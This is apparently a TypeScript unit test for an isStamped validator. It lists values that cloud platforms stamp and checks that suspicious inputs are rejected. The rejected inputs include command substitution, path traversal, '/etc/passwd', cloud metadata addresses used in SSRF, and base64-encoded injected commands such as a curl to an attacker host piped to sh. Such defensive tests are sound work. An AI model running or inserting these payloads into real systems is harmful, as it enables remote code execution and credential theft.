import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { isStamped } from './stamped.ts';

const stamped: readonly string[] = [
  '',
  'my-bucket.eu',
  'arn:aws:s3:::bucket',
  'ObjectCreated:Put',
  '1970-01-01T00:00:00.000Z',
  'C3D13FE58DE4C810',
  'FMyUVURIY8/IgAtTv8xRjskZQpcIZ9KG4V5Wp6S7S/JRWeUWerMUE5JgHvANOjpD',
  '9EA8F4A6-9C1B-4B6B-8B2D-0F3E7D1C2B3A',
  'a3f1c09b7e5d4c2b9a8f7e6d5c4b3a29',
  '4aca75bafa5d44e4a4a5fd4ff6dc4b6a',
  'JKJaXmPLvgasHetAmaU1KVQDrKGGjUZ8EXAMPLE=',
  '203.0.113.7',
  '169.254.8.129',
  '169.254.169.126',
  'filesystem:x',
  'metadata',
  'us-east-1:7f3c2b1a-0d9e-4c8b-a7f6-5e4d3c2b1a09',
];
const others: readonly string[] = [
  '$(id)',
  '/etc/passwd',
  '../x',
  'http://x',
  '__proto__',
  'file:/etc/passwd',
  'FILE:/etc/passwd',
  'javascript:alert',
  '169.254.169.254',
  '169.254.169.254:80',
  '169.254.170.2',
  'metadata.google.internal',
  'instance-data',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  Buffer.from('; curl http://attacker.example/x | sh').toString('base64'),
  Buffer.from('; cat /etc/passwd').toString('base64url'),
  Buffer.from('; cat /etc/passw').toString('base64'),
];
describe('what platforms stamp', () => {
  for (const text of stamped) test(text, () => assert.equal(isStamped(text), true));
});
describe('what they do not', () => {
  for (const text of others) test(text, () => assert.equal(isStamped(text), false));
});
